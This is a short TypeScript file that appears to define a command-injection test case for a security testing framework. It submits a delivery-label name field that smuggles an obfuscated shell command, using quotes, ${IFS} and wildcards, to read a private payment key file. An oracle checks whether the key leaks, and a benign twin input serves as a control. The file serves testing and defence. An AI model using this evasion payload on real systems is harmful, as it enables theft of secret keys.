import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** The same with quotes, wildcards and IFS in place of the telling words. */
export const commandLabelObfuscated: Attack = defineAttack({
  id: 'command-label-obfuscated',
  class: 'command-injection',
  title: 'The same with quotes, wildcards and IFS in place of the telling words',
  cwe: 78,
  capec: 88,
  technique: 'T1059.004',
  preconditions: [],

  steps: ({ visitor }) =>
    visitor.form('/delivery/label', { name: "Ada|c''a\\t${IFS}priv*/paymen?.k?y;#", street: '#' }),
  oracle: (answer, { witness }) => answer.text.replaceAll(/\s/g, '').includes(witness.loot.fileKey),
  twin: ({ visitor }) => visitor.form('/delivery/label', { name: 'Sjöberg and Sons', street: 'Hus 3, 2 tr' }),
})
